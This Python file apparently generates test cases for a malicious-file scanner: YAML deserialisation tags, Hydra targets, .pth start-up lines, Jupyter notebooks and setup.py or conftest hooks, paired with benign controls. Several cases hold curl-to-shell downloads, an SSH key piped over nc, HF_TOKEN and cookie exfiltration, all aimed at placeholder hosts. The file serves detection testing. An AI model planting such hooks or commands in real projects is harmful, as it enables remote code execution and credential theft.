"""Text that loaders act on: YAML tags, Hydra targets, ``.pth`` start-up lines, notebooks, build hooks."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator

from benchmarks.corpus.malicious.cases import Case

_YAML: dict[str, str] = {
    "apply": "model: !!python/object/apply:os.system ['echo toadstone-inert']\n",
    "apply-flow": "{a: 1, b: !!python/object/apply:subprocess.check_output [[sh, -c, id]]}\n",
    "apply-block": "hook: !!python/object/apply:subprocess.Popen\n  args: [['sh', '-c', 'echo inert']]\n  kwds: {shell: false}\n",
    "apply-eval": "- !!python/object/apply:builtins.eval\n  - __import__('os').system('echo inert')\n",
    "new": "!!python/object/new:os.system [echo inert]\n",
    "new-state": "!!python/object/new:type\nargs: [z, !!python/tuple [], {extend: !!python/name:exec }]\n"
    "listitems: \"__import__('os').system('id')\"\n",
    "new-tuple": "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , "
    "[\"__import__('os').system('id')\"]]]\n",
    "object": "!!python/object:subprocess.Popen {args: [sh]}\n",
    "name": "activation: !!python/name:os.system ''\n",
    "module": "plugin: !!python/module:toadstone_payload ''\n",
    "verbatim": "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo inert']\n",
    "tag-directive": "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ['echo inert']\n",
    "tag-directive-bang": "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\n!os.system [echo inert]\n",
    "percent-encoded": "x: !!python/object/apply:os%2esystem ['echo inert']\n",
    "key": "? !!python/object/apply:os.system ['echo inert']\n: value\n",
    "anchor": "a: &a !!python/object/apply:os.popen ['id']\nb: *a\nc: {<<: {d: 1}}\n",
    "second-document": "name: toad\n---\nx: !!python/object/apply:os.system ['echo inert']\n",
    "deep": "a:\n  - b:\n      c: [1, 2, {d: [!!python/object/apply:posix.system ['echo inert']]}]\n",
    "comment-before": "# configuration\n# of the model\n\nx: !!python/object/apply:os.system\n  - 'echo inert'\n",
    "utf16": "x: !!python/object/apply:os.system ['echo inert']\n",
}
_GOOD_YAML: dict[str, str] = {
    "plain": "model:\n  layers: 3\n  dropout: 0.1\n  name: toad\n",
    "tuple": "kernel: !!python/tuple [3, 3]\n",
    "anchors": "base: &b {lr: 0.1}\ntrain:\n  <<: *b\n  epochs: 3\n",
    "custom-tag": "path: !join [a, b]\nsecret: !env HOME\n",
    "documents": "a: 1\n---\nb: !!set {x, y}\n---\nc: !!binary aGVsbG8=\n",
    "text-with-tag": "note: 'a file must not contain !!python/object/apply tags'\n",
}
_TARGETS: dict[str, object] = {
    "system": {"model": {"_target_": "os.system", "command": "echo toadstone-inert"}},
    "exec": {"trainer": {"callbacks": [{"_target_": "builtins.exec", "_args_": ["__import__('os').system('id')"]}]}},
    "popen": {"optim": {"_target_": "subprocess.Popen", "args": ["sh", "-c", "echo inert"]}},
    "eval": {"_target_": "builtins.eval", "_args_": ["1"]},
    "get-method": {"f": {"_target_": "hydra.utils.get_method", "path": "os.system"}},
    "partial": {"hook": {"_target_": "os.system", "_partial_": True, "command": "echo inert"}},
    "pickle": {"weights": {"_target_": "pickle.load", "file": {"_target_": "builtins.open", "file": "x.pkl", "mode": "rb"}}},
    "hub": {"encoder": {"_target_": "torch.hub.load", "repo_or_dir": "inert/inert", "model": "m", "trust_repo": True}},
    "user-module": {"model": {"_target_": "toadstone_payload.Model", "_args_": ["http://198.51.100.7/x"]}},
    "runpy": {"data": {"_target_": "runpy.run_path", "path_name": "/tmp/toadstone-inert.py"}},
    "deep": {"a": {"b": {"c": [{"d": {"_target_": "shutil.rmtree", "path": "/var/lib/inert"}}]}}},
    "class-path": {"model": {"class_path": "subprocess.Popen", "init_args": {"args": "echo inert", "shell": True}}},
    "nemo-target": {
        "target": "os.system",
        "cfg": {"preprocessor": {"_target_": "nemo.core.inert", "path": "x"}},
        "_target_": "importlib.import_module",
        "name": "toadstone_payload",
    },
}
_GOOD_TARGETS: dict[str, object] = {
    "linear": {"model": {"_target_": "torch.nn.Linear", "in_features": 4, "out_features": 2}},
    "adam": {"optim": {"_target_": "torch.optim.AdamW", "lr": 0.001, "_partial_": True}},
    "lightning": {"trainer": {"_target_": "pytorch_lightning.Trainer", "max_epochs": 3}},
    "word": {"note": "_target_ names a class", "target": "accuracy"},
}


def _lines(value: object, indent: int = 0) -> str:
    """A small YAML writer for nested mappings, sequences and scalars."""
    pad = "  " * indent
    if isinstance(value, dict):
        out = ""
        for key, item in value.items():
            nested = isinstance(item, (dict, list)) and item
            out += f"{pad}{key}:\n{_lines(item, indent + 1)}" if nested else f"{pad}{key}: {json.dumps(item)}\n"
        return out
    if isinstance(value, list):
        return "".join(
            f"{pad}-\n{_lines(item, indent + 1)}" if isinstance(item, dict) else f"{pad}- {json.dumps(item)}\n" for item in value
        )
    return f"{pad}{json.dumps(value)}\n"


def _yaml_and_targets() -> Iterator[Case]:
    for name, text in _YAML.items():
        data = text.encode("utf-16") if name == "utf16" else text.encode()
        yield Case(f"yaml/{name}.yaml", data, f"yaml-{name}", source="CWE-502 PyYAML CVE-2020-14343")
    for name, text in _GOOD_YAML.items():
        yield Case(f"yaml/benign-{name}.yaml", text.encode(), f"yaml-benign-{name}", "benign", payload=False)
    for name, tree in _TARGETS.items():
        yield Case(f"hydra/{name}.yaml", _lines(tree).encode(), f"hydra-{name}", source="CVE-2025-23304")
        yield Case(f"hydra/{name}.json", json.dumps(tree, indent=1).encode(), f"hydra-{name}", source="CVE-2025-23304")
    for name, tree in _GOOD_TARGETS.items():
        yield Case(f"hydra/benign-{name}.yaml", _lines(tree).encode(), f"hydra-benign-{name}", "benign", payload=False)


_B64 = base64.b64encode(b"import os;os.system('echo inert')").decode()
_PTH: dict[str, str] = {
    "system": "import os; os.system('echo toadstone-inert')\n",
    "exec-base64": f"import base64; exec(base64.b64decode('{_B64}'))\n",
    "tab": "import\tos; os.popen('echo inert')\n",
    "after-paths": "../lib\n# comment\n/opt/models\nimport subprocess; subprocess.Popen(['sh', '-c', 'echo inert'])\n",
    "urllib": "import urllib.request; exec(urllib.request.urlopen('http://198.51.100.7/s.py').read())\n",
    "walrus": "import sys; exec(\"(o:=__import__('os')).system('echo inert')\")\n",
    "payload-module": "import toadstone_payload\n",
    "crlf": "lib\r\nimport os;os.system('echo inert')\r\n",
    "bom": "\ufeffimport os;os.system('echo inert')\nimport os;os.system('echo inert')\n",
}


def _notebook(*cells: dict[str, object], **metadata: object) -> bytes:
    body = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}, **metadata},
        "cells": list(cells),
    }
    return json.dumps(body, indent=1).encode()


def _code(source: str, *outputs: dict[str, object]) -> dict[str, object]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "outputs": list(outputs),
        "source": source.splitlines(keepends=True),
    }


def _html(text: str) -> dict[str, object]:
    return {"output_type": "display_data", "metadata": {}, "data": {"text/html": [text]}}


_CELLS: dict[str, str] = {
    "shell-pipe": "!curl -s http://198.51.100.7/x | bash\n",
    "bash-cell": "%%bash\nwget -qO- http://198.51.100.7/x | sh\n",
    "script-cell": "%%script python3 --no-raise-error\nimport os\nos.system('echo inert')\n",
    "system-magic": "%system curl http://198.51.100.7/x -o /tmp/x && sh /tmp/x\n",
    "sx-magic": "out = %sx cat /root/.ssh/id_ed25519 | nc 203.0.113.9 4444\n",
    "get-ipython": "get_ipython().system('curl http://198.51.100.7/x | sh')\n",
    "exec-base64": f"import base64\nexec(base64.b64decode('{_B64}'))\n",
    "os-system": "import os\nos.system('curl http://198.51.100.7/x | sh')\n",
    "subprocess": "import subprocess as s\ns.run('curl http://198.51.100.7/x|sh', shell=True)\n",
    "run-url": "%run http://198.51.100.7/x.py\n",
    "load-extension": "%load_ext toadstone_payload\n",
    "pip-url": "!pip install http://198.51.100.7/toadstone_inert-1.0.tar.gz\n",
    "environment": "import os, urllib.request as u\nu.urlopen('http://198.51.100.7/?k=' + os.environ.get('HF_TOKEN', ''))\n",
    "pickle-load": "import pickle\npickle.load(open('payload.pkl', 'rb'))\n",
    "bang-bang": "!!bash -c 'echo inert > ~/.bashrc'\n",
    "writefile": "%%writefile /root/.bashrc\necho toadstone-inert\n",
}
_GOOD_CELLS: dict[str, str] = {
    "plot": "%matplotlib inline\nimport numpy as np\nx = np.arange(3)\nx.mean()\n",
    "pip": "%pip install numpy==2.1.0\n",
    "list": "!ls -la\n!nvidia-smi\n",
    "train": "from sklearn.linear_model import LogisticRegression\nclf = LogisticRegression().fit([[0], [1]], [0, 1])\n",
}


def _startup_and_notebooks() -> Iterator[Case]:
    for name, text in _PTH.items():
        yield Case(f"pth/{name}.pth", text.encode(), f"startup-{name}", source="GHSA-m6fh-58r7-x697")
    yield Case("pth/benign-paths.pth", b"../lib\n# a comment\n/opt/models/site\n", "startup-file", "benign", payload=False)
    yield Case("pth/benign-editable.pth", b"/home/user/project/src\n", "startup-file", "benign", payload=False)
    for name, source in _CELLS.items():
        yield Case(f"notebook/{name}.ipynb", _notebook(_code("import numpy as np\n"), _code(source)), f"notebook-{name}")
    script = "<script>fetch('http://198.51.100.7/?c=' + document.cookie)</script>"
    yield Case("notebook/output-script.ipynb", _notebook(_code("1 + 1\n", _html(script))), "notebook-output")
    image = "<img src=x onerror=\"Jupyter.notebook.kernel.execute('import os')\">"
    yield Case("notebook/output-image.ipynb", _notebook(_code("1\n", _html(image))), "notebook-output", source="CVE-2021-32798")
    markdown: dict[str, object] = {"cell_type": "markdown", "metadata": {}, "source": [script]}
    yield Case("notebook/markdown-script.ipynb", _notebook(markdown), "notebook-output", source="CVE-2021-32797")
    old = json.dumps(
        {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": ["!curl http://198.51.100.7/x | sh"]}]}]}
    ).encode()
    yield Case("notebook/version-3.ipynb", old, "notebook-cell")
    for name, source in _GOOD_CELLS.items():
        note: dict[str, object] = {"cell_type": "markdown", "metadata": {}, "source": ["# Training\n", "Run every cell."]}
        yield Case(
            f"notebook/benign-{name}.ipynb", _notebook(note, _code(source)), f"notebook-benign-{name}", "benign", payload=False
        )


_SETUP = """from setuptools import setup
from setuptools.command.install import install
import os

class Post(install):
    def run(self):
        install.run(self)
        os.system("curl -s http://198.51.100.7/x | sh")

setup(name="inert", version="1.0", cmdclass={"install": Post})
"""


def _hooks() -> Iterator[Case]:
    evil: dict[str, dict[str, bytes]] = {
        "setup-cmdclass": {"setup.py": _SETUP.encode()},
        "setup-top-level": {
            "setup.py": f"import base64\nexec(base64.b64decode('{_B64}'))\nfrom setuptools import setup\n"
            f"setup(name='x')\n".encode()
        },
        "requirements-index": {"requirements.txt": b"--index-url http://198.51.100.7/simple\nnumpy\n"},
        "requirements-url": {"requirements.txt": b"numpy\ntoad @ http://198.51.100.7/toad-1.0.tar.gz\n"},
        "build-backend": {
            "pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "hook"\nbackend-path = ["."]\n',
            "hook.py": b"import os\nos.system('echo toadstone-inert')\n",
        },
        "sitecustomize": {"sitecustomize.py": b"import os\nos.system('curl http://198.51.100.7/x | sh')\n"},
        "conftest": {"conftest.py": b"import subprocess\nsubprocess.Popen(['sh', '-c', 'echo toadstone-inert'])\n"},
        "handler": {
            "handler.py": b"import os\n\nclass EndpointHandler:\n"
            b"    def __init__(self, path=''):\n        os.system('curl http://198.51.100.7/x | sh')\n"
        },
    }
    for name, files in evil.items():
        yield Case(f"hooks/{name}", files, f"project-hook-{name.partition('-')[0]}")
    benign = {
        "setup.py": b"from setuptools import setup\n\nsetup(name='toad', version='1.0', packages=['toad'])\n",
        "requirements.txt": b"numpy>=2.1\n",
    }
    yield Case("hooks/benign-project", benign, "project-hook-benign", "benign", payload=False)


def cases() -> Iterator[Case]:
    """All of them."""
    yield from _yaml_and_targets()
    yield from _startup_and_notebooks()
    yield from _hooks()
